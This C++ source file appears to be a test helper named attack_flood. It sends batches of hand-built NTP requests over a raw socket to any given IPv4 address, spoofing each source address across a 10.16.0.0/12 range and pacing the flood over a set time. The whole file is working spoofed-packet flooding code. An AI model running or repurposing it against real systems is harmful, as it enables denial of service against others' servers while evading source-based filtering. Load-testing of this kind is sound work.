// attack_flood TARGET COUNT SECONDS: sends NTP requests to an IPv4 address, each from another address
// of 10.16.0.0/12 (up to 2^20), evenly over that time, and prints how many the kernel took. Where it cannot
// keep up it ends after twice that time. Needs CAP_NET_RAW. For namespaces of a test.

#include <algorithm>
#include <arpa/inet.h>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <thread>

namespace {

constexpr std::uint32_t kNetwork = 10U << 24 | 16U << 16;
constexpr std::uint32_t kAddresses = 1U << 20;
constexpr std::uint32_t kStride = 632'459;  // odd, so that each address comes once
constexpr std::size_t kBatch = 64;
constexpr std::uint16_t kNtpPort = 123;

struct Datagram {
  iphdr ip;
  udphdr udp;
  std::array<std::uint8_t, 48> request;
};
static_assert(sizeof(Datagram) == 76);

Datagram request_to(in_addr_t target) {
  Datagram d{};
  d.ip.version = 4;
  d.ip.ihl = 5;
  d.ip.ttl = 64;
  d.ip.protocol = IPPROTO_UDP;
  d.ip.daddr = target;
  d.udp.source = htons(40000);
  d.udp.dest = htons(kNtpPort);
  d.udp.len = htons(sizeof d.udp + sizeof d.request);  // no checksum: IPv4 allows it
  d.request[0] = 4 << 3 | 3;
  return d;
}

struct Batch {
  explicit Batch(in_addr_t target) {
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = target;
    datagrams.fill(request_to(target));
    for (std::size_t i = 0; i < kBatch; ++i) {
      payloads[i] = {&datagrams[i], sizeof datagrams[i]};
      headers[i].msg_hdr.msg_name = &to;
      headers[i].msg_hdr.msg_namelen = sizeof to;
      headers[i].msg_hdr.msg_iov = &payloads[i];
      headers[i].msg_hdr.msg_iovlen = 1;
    }
  }
  void number(std::uint32_t first) {
    for (std::uint32_t i = 0; i < kBatch; ++i) {
      const std::uint32_t number = first + i;
      datagrams[i].ip.saddr = htonl(kNetwork | (number * kStride) % kAddresses);
      std::memcpy(&datagrams[i].request[40], &number, sizeof number);
    }
  }

  sockaddr_in to{};
  std::array<Datagram, kBatch> datagrams;
  std::array<iovec, kBatch> payloads{};
  std::array<mmsghdr, kBatch> headers{};
};

}  // namespace

int main(int argc, char** argv) {
  in_addr target{};
  if (argc != 4 || inet_pton(AF_INET, argv[1], &target) != 1) {
    std::fputs("usage: attack_flood TARGET COUNT SECONDS\n", stderr);
    return 2;
  }
  const auto count = std::min(static_cast<std::uint32_t>(std::strtoul(argv[2], nullptr, 10)), kAddresses);
  const auto seconds = std::chrono::duration<double>(std::strtod(argv[3], nullptr));
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("attack_flood: socket");
    return 1;
  }
  Batch batch(target.s_addr);
  const auto start = std::chrono::steady_clock::now();
  std::uint32_t taken = 0;
  for (std::uint32_t number = 0; number < count; number += kBatch) {
    batch.number(number);
    const int sent = ::sendmmsg(fd, batch.headers.data(), kBatch, 0);
    if (sent > 0) taken += static_cast<std::uint32_t>(sent);
    std::this_thread::sleep_until(start + seconds * (static_cast<double>(number) / count));
    if (std::chrono::steady_clock::now() - start > 2 * seconds) break;  // a busy machine
  }
  std::printf("%u\n", taken);
  return 0;
}
